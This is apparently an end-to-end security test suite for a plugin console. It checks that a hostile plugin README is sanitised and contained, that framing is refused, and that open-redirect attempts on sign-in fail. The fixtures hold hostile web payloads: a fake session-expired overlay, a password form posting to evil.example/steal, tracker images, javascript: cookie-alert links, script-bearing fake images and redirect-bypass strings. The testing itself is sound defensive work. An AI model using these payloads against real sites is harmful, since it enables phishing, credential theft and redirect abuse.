import {
  APP_URL,
  connectClient,
  createPublisher,
  createUser,
  hosts,
  launchBrowser,
  newPage,
  packPlugin,
  publishThroughUpload,
  resetEmulators,
  signInThroughUi,
  uniqueId,
  type TestUser,
} from '@mlebotics/testing';
import { crc32, deflateSync } from 'node:zlib';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/** A README that tries to cover the console, restyle it, phone home, and run script. */
const HOSTILE_README = `# Hostile Helper

<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;padding:20vh 20vw" id="session-expired" class="app-header">
<h2>Your session expired</h2>
<p>Enter your password again to continue.</p>
</div>

<style>header { display: none !important } body { background: red }</style>

<iframe src="https://evil.example/frame" width="600" height="400"></iframe>

<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form>

<img src="https://tracker.example/p.png" alt="tracker pixel">
<img srcset="https://tracker.example/2x.png 2x, https://tracker.example/1x.png 1x" alt="responsive">
<img src="./shot.png" alt="Screenshot">
<img src="fake.png" alt="fake png">
<img src="evil.svg" alt="svg file">

<span style="position:absolute;left:-400px;top:-400px;font-size:80px">ESCAPED</span>

[Click to verify your account](javascript:alert(document.cookie))
<a href="JaVaScRiPt:alert(1)">Another script link</a>
<a href="https://example.com/docs">Documentation</a>

${'A very long unbroken line: ' + 'x'.repeat(400)}
`;

/** A real PNG: `width`×`height`, a diagonal split of two colours. */
function png(width: number, height: number): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), body.length + 4);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const colour = x / width > y / height ? [0x1f, 0x6f, 0xeb] : [0xf5, 0xa6, 0x23];
      rows.set(colour, y * (width * 3 + 1) + 1 + x * 3);
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Origins the console may talk to: itself and the emulators. */
const ALLOWED_ORIGINS = new Set([new URL(APP_URL).origin, ...Object.values(hosts).map((host) => `http://${host}`)]);
function allowed(url: string): boolean {
  if (url.startsWith('data:')) return true;
  return ALLOWED_ORIGINS.has(new URL(url).origin);
}

interface Watched {
  context: BrowserContext;
  page: Page;
  /** Uncaught page errors. */
  errors: string[];
  /** Every request the page made, by URL. */
  requests: string[];
  /** Requests to any other origin (aborted, so nothing leaves the machine). */
  offsite: string[];
  /** CSP violations the page reported (securitypolicyviolation events). */
  violations: () => Promise<Violation[]>;
  /** Console messages about the CSP. */
  cspMessages: string[];
}

interface Violation {
  directive: string;
  blockedURI: string;
  sourceFile: string;
}

/**
 * Reports that are the policy refusing the README's own markup, not the console needing
 * something: Chromium applies the page's CSP to the inert document DOMPurify parses the README
 * into, so each `style` attribute or element of a hostile README is reported while it is parsed,
 * before DOMPurify removes it.
 */
function refusedReadmeStyle(v: Violation): boolean {
  return (
    (v.directive === 'style-src-attr' || v.directive === 'style-src-elem') &&
    v.blockedURI === 'inline' &&
    /^http:\/\/localhost:\d+\/assets\/purify[^/]*\.js$/.test(v.sourceFile)
  );
}

/** A page whose page errors, requests and CSP violations are recorded. */
async function watchedPage(browser: Browser, viewport = { width: 1440, height: 900 }): Promise<Watched> {
  // Chromium logs each README style it refuses while DOMPurify parses it (see refusedReadmeStyle).
  const { context, page, errors } = await newPage(browser, {
    expectedConsoleErrors: [
      /^Applying inline style violates the following Content Security Policy directive/,
      /^CSP violation: style-src(-attr|-elem)? blocked inline/,
    ],
  });
  await page.setViewportSize(viewport);
  const requests: string[] = [];
  const offsite: string[] = [];
  const cspMessages: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  await context.route(
    (url) => !allowed(url.href),
    (route) => {
      offsite.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  await context.addInitScript(() => {
    const seen: Array<{ directive: string; blockedURI: string; sourceFile: string }> = [];
    (window as unknown as { __cspViolations: typeof seen }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push({ directive: e.effectiveDirective, blockedURI: e.blockedURI, sourceFile: e.sourceFile }),
    );
  });
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) cspMessages.push(message.text());
  });
  const violations = () => page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations);
  return { context, page, errors, requests, offsite, violations, cspMessages };
}

/** Elements of the README box whose box reaches outside it (1 px for rounding). */
function escapes(page: Page): Promise<string[]> {
  return page.getByTestId('readme').evaluate((readme) => {
    const box = readme.getBoundingClientRect();
    const out: string[] = [];
    for (const el of readme.querySelectorAll('*')) {
      const r = el.getBoundingClientRect();
      if (r.width === 0 && r.height === 0) continue;
      if (r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1) {
        out.push(
          `<${el.localName}> ${JSON.stringify([r.left, r.top, r.right, r.bottom])} outside ${JSON.stringify([box.left, box.top, box.right, box.bottom])}`,
        );
      }
    }
    return out;
  });
}

/** Points of the viewport outside the README box where a README element is what is painted on top. */
function coveredPoints(page: Page): Promise<string[]> {
  return page.getByTestId('readme').evaluate((readme) => {
    const box = readme.getBoundingClientRect();
    const out: string[] = [];
    for (let x = 5; x < window.innerWidth; x += 40) {
      for (let y = 5; y < window.innerHeight; y += 40) {
        if (x >= box.left && x <= box.right && y >= box.top && y <= box.bottom) continue;
        const top = document.elementFromPoint(x, y);
        if (top && readme.contains(top)) out.push(`(${x},${y}) <${top.localName}>`);
      }
    }
    return out;
  });
}

let browser: Browser;
let operator: TestUser;
let pluginId: string;

beforeAll(async () => {
  await resetEmulators();
  browser = await launchBrowser();
  operator = await createUser(`${uniqueId('dev')}@example.com`);
  const publisherId = uniqueId('hostile');
  await createPublisher(publisherId, [operator.uid]);
  const developer = await connectClient(operator);
  pluginId = `${publisherId}.helper`;
  const upload = await publishThroughUpload(
    developer,
    publisherId,
    await packPlugin(
      pluginId,
      { name: 'Hostile Helper' },
      {
        'README.md': HOSTILE_README,
        'shot.png': png(480, 240),
        // Named like an image, but HTML: must not be shown.
        'fake.png': '<html><body><script>alert(1)</script></body></html>',
        'evil.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      },
    ),
  );
  if (upload.state !== 'published') throw new Error(JSON.stringify(upload.errors));
  await developer.close();
}, 300_000);

afterAll(() => browser?.close());

describe('a hostile README on the plugin page', () => {
  it('stays inside its box, shows only the package’s own image, loads nothing remote, within the CSP', async () => {
    const watched = await watchedPage(browser);
    const { page } = watched;
    await signInThroughUi(page, operator.email, operator.password);
    const response = await page.goto(`${APP_URL}/plugins/${pluginId}`);
    const readme = page.getByTestId('readme');
    await readme.locator('h1').filter({ hasText: 'Hostile Helper' }).waitFor();

    // Nothing of the README paints outside its box, and the console around it stays on top.
    expect(await escapes(page)).toEqual([]);
    expect(await coveredPoints(page)).toEqual([]);
    await expect(page.getByTestId('signed-in-user').isVisible()).resolves.toBe(true);

    // Sanitised: no styles, forms, frames, remote or fake images, script links.
    const html = await readme.innerHTML();
    expect(html).not.toMatch(
      /style=|<style|class=|id=|<iframe|<form|<input|<button|srcset|tracker\.example|javascript:/i,
    );
    await expect(readme.locator('img[alt="tracker pixel"]').getAttribute('src')).resolves.toBeNull();
    await expect(readme.locator('a[href]').evaluateAll((links) => links.map((a) => a.outerHTML))).resolves.toEqual([
      '<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">Documentation</a>',
    ]);
    expect(watched.offsite).toEqual([]);

    // The package's own image, read from the verified artifact; files that only claim to be
    // images are not shown.
    const shot = readme.locator('img[alt="Screenshot"]');
    await shot.and(page.locator('[src^="blob:"]')).waitFor({ timeout: 30_000 });
    await expect
      .poll(() => shot.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth), { timeout: 30_000 })
      .toBe(480);
    await expect(page.getByTestId('readme-images-refused').textContent()).resolves.toMatch(
      /fake\.png \(not a PNG, JPEG, GIF or WebP image\).*evil\.svg \(not a PNG, JPEG, GIF or WebP image\)/,
    );
    await expect(readme.locator('img[alt="fake png"]').getAttribute('src')).resolves.toBeNull();
    await expect(readme.locator('img[alt="svg file"]').getAttribute('src')).resolves.toBeNull();
    expect(await escapes(page)).toEqual([]);
    expect(await coveredPoints(page)).toEqual([]);
    await page.screenshot({ path: '/tmp/readme-1440.png', fullPage: true });

    // The same on a phone.
    await page.setViewportSize({ width: 390, height: 844 });
    await readme.scrollIntoViewIfNeeded();
    expect(await escapes(page)).toEqual([]);
    expect(await coveredPoints(page)).toEqual([]);
    // Its content wraps to the box (the long line, the image) instead of widening the page:
    // inline-size containment gives the box no width of its own to push on the layout.
    await expect(readme.evaluate((box) => box.scrollWidth - box.clientWidth)).resolves.toBeLessThanOrEqual(1);
    await expect(
      readme.evaluate((box) => {
        box.style.width = 'min-content';
        const width = box.getBoundingClientRect().width;
        box.style.width = '';
        return width;
      }),
    ).resolves.toBe(0);
    await page.evaluate(() => window.scrollTo(0, 0));
    await page.screenshot({ path: '/tmp/readme-390.png', fullPage: true });

    // Nothing went anywhere but the console and the emulators.
    expect(watched.offsite).toEqual([]);
    expect(watched.requests.filter((url) => !allowed(url))).toEqual([]);

    // The policy is in force (Hosting's header with frame-ancestors, the build's own policy) and
    // blocked nothing the console loads: no image, connection, frame, script or style of its
    // own. What it did refuse is the README's inline styles while they were being parsed.
    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).resolves.toMatch(
      /^default-src 'none'; script-src 'self' 'unsafe-eval';.*connect-src 'self' http:\/\/127\.0\.0\.1:/,
    );
    const violations = await watched.violations();
    expect(violations.filter((v) => !refusedReadmeStyle(v))).toEqual([]);
    expect(violations.filter(refusedReadmeStyle).length).toBeGreaterThan(0);
    expect(watched.cspMessages.filter((m) => !m.startsWith('Applying inline style violates'))).toEqual([]);
    expect(watched.errors).toEqual([]);
    await watched.context.close();
  });
});

describe('console framing and sign-in redirects', () => {
  it('cannot be framed by another site', async () => {
    const { context, page, errors } = await newPage(browser);
    // Another site (served by the test itself: nothing leaves the machine) frames the sign-in page.
    await context.route('http://framer.test/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>framer</title><iframe src="${APP_URL}/signin" width="800" height="600"></iframe>`,
      }),
    );
    await page.goto('http://framer.test/');
    const children = () => page.frames().filter((frame) => frame !== page.mainFrame());
    // Chromium replaces a frame it refuses to show with its error page.
    await expect
      .poll(() => children().map((frame) => frame.url()), { timeout: 15_000 })
      .toEqual(['chrome-error://chromewebdata/']);
    // Refused by the console's policy (and the legacy header), on every page of the app.
    for (const path of ['/signin', '/', `/plugins/${pluginId}`]) {
      const headers = (await context.request.get(`${APP_URL}${path}`)).headers();
      expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
      expect(headers['x-frame-options'], path).toBe('DENY');
    }
    expect(errors).toEqual([]);
    await context.close();
  });

  it('signs in with a hostile next parameter and stays on the console', async () => {
    const { context, page, errors } = await newPage(browser);
    const landsOnTheConsole = async () => {
      await page.getByTestId('signed-in-user').waitFor();
      expect(new URL(page.url()).origin).toBe(new URL(APP_URL).origin);
      expect(new URL(page.url()).pathname).toBe('/');
      await expect(page.getByText('Unexpected Application Error').count()).resolves.toBe(0);
    };
    // The reported case, through the sign-in form.
    await page.goto(`${APP_URL}/signin?next=${encodeURIComponent('/\\evil.example')}`);
    await page.getByLabel('Email').fill(operator.email);
    await page.getByLabel('Password').fill(operator.password);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await landsOnTheConsole();
    // Signed in, the sign-in page redirects at once.
    for (const next of ['/%5Cevil.example', '/.//evil.example', '//evil.example', '/\t/evil.example']) {
      await page.goto(`${APP_URL}/signin?next=${encodeURIComponent(next)}`);
      await landsOnTheConsole();
    }
    expect(errors).toEqual([]);
    await context.close();
  });
});
